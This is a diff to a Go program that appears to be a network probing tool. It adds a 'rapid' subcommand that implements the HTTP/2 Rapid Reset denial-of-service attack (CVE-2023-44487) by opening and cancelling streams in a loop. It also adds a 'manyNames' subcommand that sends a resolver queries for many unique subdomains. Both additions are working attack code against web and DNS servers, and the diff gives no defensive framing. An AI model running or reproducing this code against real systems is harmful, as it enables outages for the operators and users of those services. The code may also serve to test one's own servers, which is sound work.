@@ -1,14 +1,19 @@
 package main
 
 import (
+	"bytes"
 	"crypto/ecdh"
 	"crypto/rand"
 	"crypto/tls"
 	"encoding/binary"
 	"fmt"
+	"io"
 	"net"
 	"strings"
 	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 )
 
 // sayECH TARGET OUTER INNER PAYLOAD: a handshake whose real name is encrypted.
@@ -108,4 +113,54 @@ func twoNames(args []string) error {
 	n, err := c.Read(answer)
 	fmt.Printf("answer %x\n", answer[:n])
 	return err
+}
+
+// rapid TARGET NAME N: streams that are opened and reset at once (CVE-2023-44487).
+func rapid(args []string) error {
+	c, err := net.DialTimeout("tcp", args[0], patience)
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	t, err := hello(c, args[1], "h2")
+	if err != nil {
+		return err
+	}
+	t.SetDeadline(time.Now().Add(5 * time.Second))
+	if _, err := t.Write([]byte(http2.ClientPreface)); err != nil {
+		return err
+	}
+	go io.Copy(io.Discard, t)
+	fr := http2.NewFramer(t, nil)
+	if err := fr.WriteSettings(); err != nil {
+		return err
+	}
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for i := range number(args[2]) {
+		block.Reset()
+		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", args[1]}, {":path", "/rapid"}} {
+			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		}
+		id := uint32(2*i + 1)
+		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
+			return err
+		}
+		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// manyNames N SUFFIX: as many different names as can be asked for.
+func manyNames(args []string) error {
+	answered := 0
+	for i := range number(args[0]) {
+		if dns([]string{"udp", "203.0.113.53:53", "1", fmt.Sprintf("n%d.%s", i, args[1])}) == nil {
+			answered++
+		}
+	}
+	fmt.Println("answered", answered)
+	return nil
 }
